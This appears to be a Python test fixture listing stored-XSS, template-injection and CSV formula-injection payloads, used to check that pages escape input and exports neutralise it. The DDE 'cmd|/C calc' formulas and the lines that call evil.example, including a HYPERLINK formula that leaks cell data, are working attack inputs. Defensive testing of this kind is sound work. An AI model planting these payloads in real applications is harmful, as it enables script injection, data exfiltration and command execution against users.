"""Classic stored-XSS and injection payloads, put into every text field by the tests.

Server-side checks (this repository's tests) assert they come back escaped in pages and neutralised
in CSV exports; the browser tests load the same corpus and assert no dialog and no CSP report.
"""

PAYLOADS: list[str] = [
    "<script>alert(1)</script>",
    '"><script>alert(document.domain)</script>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    "javascript:alert(1)",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '"><input autofocus onfocus=alert(1)>',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "{{7*7}}{% debug %}",
    "${alert(1)}",
    "<style>@import 'http://evil.example/x.css';</style>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
]

# Characters Django's autoescape changes: a payload holding one of them must never come back verbatim.
ESCAPED_CHARACTERS = set("<>\"'&")


def must_not_appear_raw(payload: str) -> bool:
    return bool(ESCAPED_CHARACTERS & set(payload))


# --- For the browser tests (tests/browser/test_stored_xss.py) ----------------------------------------
# Each script payload below, if it ever ran, sets `window.__xss` (some also open a dialog), so a page is
# proven inert by no dialog, no CSP report, no page error and `window.__xss` unset. They are short enough
# for 50-character fields (tags) and close the element a value may land in (title, textarea, script, style).

SCRIPT_PAYLOADS: list[str] = [
    "<script>window.__xss=1;alert(1)</script>",
    "<img src=x onerror=window.__xss=1>",
    '"><svg onload=window.__xss=1>',
    "'><body onload=window.__xss=1>",
    "</title><script>window.__xss=1</script>",
    "</textarea><img src=x onerror=window.__xss=1>",
    "</script><script>window.__xss=1</script>",
    "</style><img src=x onerror=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>",
    '<iframe srcdoc="<script>parent.__xss=1</script>">',
    "javascript:window.__xss=1//",
    "{{7*7}}{% debug %}${window.__xss=1}",
]

# Markdown bodies: javascript: and data: links, an image with a handler, autolinks, raw HTML.
MARKDOWN_PAYLOADS: list[str] = [
    "[click me](javascript:window.__xss=1)",
    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '![img](x" onerror="window.__xss=1)',
    "<a href='javascript:window.__xss=1'>raw link</a>",
    "<javascript:window.__xss=1>",
    *SCRIPT_PAYLOADS,
    *PAYLOADS[:19],
]

FORMULA_PAYLOADS: list[str] = [p for p in PAYLOADS if p.startswith(("=", "+", "-", "@", "\t", "\r"))]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def payload(index: int, *, limit: int = 200, marker: str = "XSS") -> str:
    """The `index`-th script payload (cycling), after a marker a test can look for, cut to `limit`."""
    text = f"{marker}{index} {SCRIPT_PAYLOADS[index % len(SCRIPT_PAYLOADS)]}"
    return text[:limit]


def markdown_body(marker: str = "XSS-MD") -> str:
    """A Markdown body holding every Markdown payload, one paragraph each."""
    return "\n\n".join(f"{marker} {text}" for text in MARKDOWN_PAYLOADS)


def all_payloads(marker: str = "XSS") -> str:
    """Every payload in one text (for long free-text fields)."""
    return " ".join(f"{marker} {text}" for text in (*SCRIPT_PAYLOADS, *PAYLOADS[:19]))
